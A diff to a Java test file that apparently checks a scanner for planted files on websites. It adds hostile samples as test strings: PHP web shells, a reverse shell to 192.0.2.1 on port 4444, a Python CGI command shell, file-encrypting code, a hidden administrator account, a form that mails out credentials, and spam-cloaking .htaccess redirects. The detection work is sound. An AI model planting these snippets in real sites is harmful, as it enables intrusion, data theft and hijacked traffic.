@@ -35,6 +35,10 @@ final class PlantedFilesTest {
           "<?php foreach(glob('*') as $f){file_put_contents($f.'.x',openssl_encrypt(file_get_contents($f),'aes-256-cbc',$k));unlink($f);}",
           "<?php $user='wpsupport'; $pass='a1b2c3d4'; $id=wp_create_user($user,$pass,'a@b.co'); $u=new WP_User($id); $u->set_role('administrator');",
           "<?php mail('x@yandex.com','log',$_POST['username'].'|'.$_POST['passwd']);",
+          "<?php $r=new ReflectionFunction($_GET['f']); echo $r->invoke($_GET['a']);",
+          "<?php $h=apache_request_headers(); $t=tempnam('/tmp','x'); file_put_contents($t,$h['X']); include $t;",
+          "<?php $c=fsockopen('192.0.2.1',4444); proc_open('/bin/sh',[$c,$c,$c],$p);",
+          "#!/usr/bin/env python3\nimport cgi,os\nprint(os.popen(cgi.FieldStorage().getvalue('c')).read())",
           "<?php include('phar://gambar/a.jpg/x');",
           "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
           "<?php $p='pass'.$x; $p($_SERVER['HTTP_X_SANDI']);",
@@ -49,6 +53,7 @@ final class PlantedFilesTest {
           "<?php error_reporting(0); $p=md5($_POST['password']); $q=mysqli_query($db,\"select * from users where p='$p'\");",
           "<?php $id=$_GET['id']; $q=$db->query('select * from berita'); ?><a class='navbar-brand' href='/'>x</a><ul class='list'></ul><b class='brand-text'>",
           "<?php $x=json_decode(file_get_contents(\"http://$host/jadwal\"));",
+          "<?php class TrustHost { function handle($request, $next) { if ($_SERVER['HTTP_HOST'] !== 'a') { abort(404); } return $next($request); } }",
           "<?php $qr=base64_encode(file_get_contents('https://qr.example.org/?t='.$t));",
           "<?php $m=@popen($sendmail, 'w'); fputs($m, $isi); pclose($m);",
           "<?php $ids=array_map('intval',$_POST['ids']); $this->simpan($_POST['nama']);");
@@ -58,6 +63,7 @@ final class PlantedFilesTest {
           "RewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\nRewriteRule ^(.*)$ /x/index.php [L]\n",
           "RewriteCond %{HTTP_USER_AGENT} (ahrefsbot) [NC]\nRewriteRule .* - [F]\nRewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule .* /lp.html [L]\n",
           "ErrorDocument 404 https://kue.example.org/\n",
+          "Header add Link \"<https://rajakue88.example/>; rel=canonical\"\n",
           "Redirect 301 /berita https://rajakue88.example/daftar\n",
           "RewriteRule ^$ https://kue.example.org [R=302,L]\n",
           "<FilesMatch \"^(about.php|radio.php)$\">\nOrder allow,deny\nAllow from all\n</FilesMatch>\n");
@@ -124,6 +130,8 @@ final class PlantedFilesTest {
             "e.respondWith(Response.redirect('https://kue.example.org/'))")) {
       expect(Verdict.CRITICAL, "sw.js", script);
     }
+    String packed = "<script>location.replace(atob(document.body.dataset.u))</script>";
+    expect(Verdict.CRITICAL, "a.html", packed);
     expect(Verdict.NONE, "a.js", "document.querySelectorAll('a').forEach(a=>{a.href='/en/'})");
     expect(Verdict.NONE, "a.js", "var versi=['1','2','3'].join('.');");
   }
